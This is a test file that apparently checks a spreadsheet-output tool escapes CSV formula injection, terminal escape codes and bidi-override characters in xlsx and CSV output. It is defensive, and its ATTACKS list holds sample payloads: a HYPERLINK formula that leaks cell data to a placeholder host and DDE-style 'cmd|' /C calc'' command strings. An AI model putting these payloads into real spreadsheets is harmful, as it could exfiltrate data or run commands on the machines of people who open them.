"""CSV injection: whatever a title or a carried-over cell says, no output cell is a formula.

The person who opens the answered workbook never saw the input, so
`=HYPERLINK(...)` must reach them as words. In xlsx such a cell is
string-typed; in CSV it starts with `'` (the OWASP rule). Numbers the tool
writes itself (the summary's counts) stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from hostile import fingerprint, run
from kyodo_rules.files.cells import FORMULA_START, clean
from kyodo_rules.outputs.inventory import RESULT_COLUMNS, csv_cell, xlsx_value

_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
ATTACKS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+SUM(A1)",
    "@cmd",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
]


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_formula_titles_come_out_inert_in_xlsx_and_csv(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    # A user column named like a formula too, and one named like a result column.
    _write_csv(
        source,
        [["title", "planner", "=cmd", "判定"], *([t, "city", "@x", "+y"] for t in ATTACKS)],
    )
    before = fingerprint([source])
    done = run("batch", str(source), "-o", "out.xlsx", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "判定（入力）" in done.stderr  # the collision is said, not silent
    book = load_workbook(tmp_path / "out.xlsx")  # not data_only: formulas would show as such
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    results = book["判定結果"]
    header = [c.value for c in results[1]]
    # The answers come right after the title; the other columns follow, kept.
    n = len(RESULT_COLUMNS)
    assert header[:2] == ["title", "判定"]
    assert header[1 + n : 4 + n] == ["planner", "=cmd", "判定（入力）"]
    titles = [results.cell(row=r, column=1).value for r in range(2, len(ATTACKS) + 2)]
    assert titles == [clean(t) for t in ATTACKS]  # the words are kept, only made inert

    done = run("batch", str(source), "-o", "out.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rows = _csv_rows(tmp_path / "out.csv")
    assert rows[0][2 + len(RESULT_COLUMNS)] == "'=cmd"
    for row, title in zip(rows[1:], ATTACKS, strict=True):
        assert row[0].startswith("'") and row[0][1:] == clean(title)
        n = len(RESULT_COLUMNS)
        assert row[2 + n] == "'@x" and row[3 + n] == "'+y"
    for row in _csv_rows(tmp_path / "out.summary.csv")[1:]:
        assert row[3].isdigit()  # counts stay numbers
    assert fingerprint([source]) == before


def test_an_inert_text_cell_of_an_input_xlsx_stays_text(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["title", "planner", "予算"])
    sheet.append(["見守り", "city", -500])
    sheet["A2"].value = "=1+1"
    sheet["A2"].data_type = "s"  # text in the input, as Excel stores a '-prefixed cell
    source = tmp_path / "in.xlsx"
    book.save(source)
    done = run("batch", str(source), "-o", "out.xlsx", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    out = load_workbook(tmp_path / "out.xlsx")["判定結果"]
    assert out["A2"].data_type == "s" and out["A2"].value == "=1+1"
    budget = out.cell(row=2, column=3 + len(RESULT_COLUMNS))  # after title, answers, planner
    assert budget.value == -500 and budget.data_type == "n"  # a number stays a number


def test_control_characters_never_reach_the_terminal_or_the_files(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    _write_csv(source, [["title", "planner"], ["\x1b[2J\x07消える\u202eevil", "市長\x1b[31m"]])
    done = run("batch", str(source), "-o", "out.xlsx", cwd=tmp_path)
    assert done.returncode == 1
    assert "\x1b" not in done.stderr and "\x07" not in done.stderr
    assert "\\x1b" in done.stderr
    title = load_workbook(tmp_path / "out.xlsx")["判定結果"]["A2"].value
    assert title == "\\x1b[2J\\x07消える\\u202eevil"
    case = tmp_path / "case.json"
    case.write_text('{"title": "\\u001b]0;pwned\\u0007x\\u202e", "planner": "city"}')
    done = run("classify", str(case), "--no-what-if", "--report", "r.md", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    for text in (done.stdout, (tmp_path / "r.md").read_text()):
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text


_ANY_TEXT = st.text(
    alphabet=st.characters(exclude_categories=("Cs",))
    | st.sampled_from([*sorted(FORMULA_START), " ", "\u3000", "\n", "\x00", "\u202e"]),
    max_size=30,
)
_CELLS: st.SearchStrategy[Any] = (
    _ANY_TEXT | st.integers() | st.floats(allow_nan=False) | st.booleans() | st.none()
)


@given(_CELLS)
def test_no_csv_cell_begins_with_a_formula_character_unless_a_number(value: Any) -> None:
    text = csv_cell(value)
    if isinstance(value, int | float) and not isinstance(value, bool):
        float(text)  # a number the tool wrote: still a number
        return
    stripped = text.lstrip(" \u3000\n\t\r")
    dashes_alone = not stripped.strip("-－ \u3000")  # 「－」 for "none": nothing to evaluate
    assert (
        not stripped
        or stripped[0] not in FORMULA_START
        or text.startswith("'")
        or (dashes_alone and text[:1] not in "\t\r")
    )
    assert not _CONTROL.search(text)


def test_a_dash_for_none_stays_as_the_office_wrote_it() -> None:
    """「－」 alone is how offices write "none"; a dash followed by anything is still inert."""
    for dash in ("－", "-", "--", " － "):
        assert csv_cell(dash) == dash
    for formula in ("-1+1", "－1", "-A1", "- 1", "－cmd|' /C calc'!A0"):
        assert csv_cell(formula).startswith("'"), formula


@given(_ANY_TEXT)
def test_no_xlsx_cell_is_a_formula(text: str) -> None:
    sheet = Workbook(write_only=True).create_sheet()
    cell = xlsx_value(sheet, text)
    data_type = getattr(cell, "data_type", None)
    value = getattr(cell, "value", cell)
    assert data_type != "f"
    if isinstance(value, str) and value.lstrip(" \u3000\n\t\r")[:1] in FORMULA_START:
        assert data_type == "s"
